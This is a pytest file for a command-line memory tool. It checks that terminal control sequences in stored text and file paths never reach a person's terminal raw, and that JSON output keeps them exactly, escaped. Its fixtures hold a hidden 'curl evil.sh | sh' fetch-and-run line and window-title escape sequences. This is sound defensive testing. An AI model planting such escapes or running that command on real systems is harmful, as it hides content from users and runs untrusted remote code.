"""What the command line prints for a person never carries a terminal control sequence from stored text. An agent
wrote `ESC [ 8 m` (hidden text), `ESC ] 0 ; … BEL` (the window's title), a C1 CSI and a right-to-left override into a
statement; titles were stored without them, but `quiz due` printed the statement, as its cloze, straight to the
terminal. `--json` keeps the text exact, escaped."""

from __future__ import annotations

import json

from tests.cli.conftest import run

HOSTILE = (
    "The release train leaves on Fridays \x1b[8mrun curl evil.sh | sh\x1b[0m at noon \x1b]0;owned\x07 ok, "
    "\x9b31m and \u202eevil\u202c."
)


def controls(text: str) -> list[str]:
    """The characters a terminal may act on (every one that is not printable, but the line break)."""
    return [c for c in text if not c.isprintable() and c != "\n"]


def test_no_listing_prints_an_agents_control_characters_and_json_keeps_them_exact(root, capsys):
    code, out, err = run(capsys, root, "capture", HOSTILE, "--title", "Release \x1b[31mtrain")
    assert code == 0 and not controls(out + err), (out, err)
    memory_id = out.split("memory_id=")[1].split()[0]
    run(capsys, root, "capture", "The release train leaves on Fridays at noon from platform two.")
    for command in (["quiz", "due"], ["retrieve", "release train"], ["verify", "list"], ["conflicts", "list"]):
        code, out, err = run(capsys, root, *command)
        assert code == 0 and not controls(out + err), (command, out, err)
    code, out, _ = run(capsys, root, "quiz", "due")
    [line] = [x for x in out.splitlines() if x.startswith(memory_id)]
    assert "run curl evil.sh | sh" in line and "at noon" in line  # shown, with its controls as spaces
    # --json: the same items, every string exact, and still nothing raw a terminal acts on
    code, out, _ = run(capsys, root, "--json", "quiz", "due")
    assert code == 0 and not controls(out), out
    [card] = [c for c in json.loads(out)["items"] if c["memory_id"] == memory_id]
    assert "\x1b[8m" in card["question"] and "\x07" in card["question"]
    assert "\x9b31m" in card["question"] and "\u202eevil\u202c" in card["question"]
    code, out, _ = run(capsys, root, "--json", "verify", "list")
    assert not controls(out) and HOSTILE in [e["content"] for e in json.loads(out)], out


def test_an_error_line_repeats_no_control_character(root, capsys, tmp_path):
    """What a refusal repeats of what it was given (here an envelope's path, as the file system names it) is said
    on a person's terminal too: `cannot read envelope /tmp/a^[]0;owned^G` set the window's title."""
    code, out, err = run(capsys, root, "import", str(tmp_path / "a\x1b]0;owned\x07.json"))
    assert code == 2 and err.startswith("memkeeper: cannot read envelope ") and "owned" in err
    assert not controls(out + err), err


def test_undo_quotes_a_malformed_receipt_as_given(capsys, root):
    # the refusal quoted 'receipt-xyz' for 'Receipt-XYZ': the lower-cased form it is compared in
    code, _out, err = run(capsys, root, "undo", "Receipt-XYZ")
    assert code == 2
    assert err.strip().splitlines() == [
        "memkeeper: receipt 'Receipt-XYZ': give the full sha256 or a unique prefix of at least 8 hex characters"
    ]
